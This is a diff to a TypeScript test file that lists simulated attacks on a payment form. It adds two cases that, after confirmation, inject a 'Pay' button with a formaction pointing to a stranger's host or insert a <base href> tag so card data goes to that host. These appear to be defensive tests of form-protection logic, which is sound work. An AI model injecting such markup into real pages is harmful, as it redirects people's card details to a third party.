@@ -39,6 +39,22 @@ export const changeAttacks: readonly Attack[] = [
       page.evaluate((to) => document.querySelector('form')!.setAttribute('action', to), at('stranger')),
   },
   {
+    title: 'a button that sends to a stranger comes into the form after the confirmation',
+    pages: () => ({ shop: cardForm() }),
+    meanwhile: (page, at) =>
+      page.evaluate(
+        (to) =>
+          document.querySelector('form')!.insertAdjacentHTML('beforeend', `<button formaction="${to}">Pay</button>`),
+        at('stranger'),
+      ),
+  },
+  {
+    title: 'the addresses of the page are read from a stranger’s after the confirmation',
+    pages: () => ({ shop: cardForm({ form: 'action="pay"' }) }),
+    meanwhile: (page, at) =>
+      page.evaluate((to) => document.head.insertAdjacentHTML('afterbegin', `<base href="${to}">`), at('stranger')),
+  },
+  {
     title: 'the number is moved into another form after the confirmation',
     pages: (at) => ({ shop: `${cardForm()}<form id="other" action="${at('stranger')}"></form>` }),
     meanwhile: (page) => page.evaluate(() => document.getElementById('other')!.append(document.getElementById('n')!)),
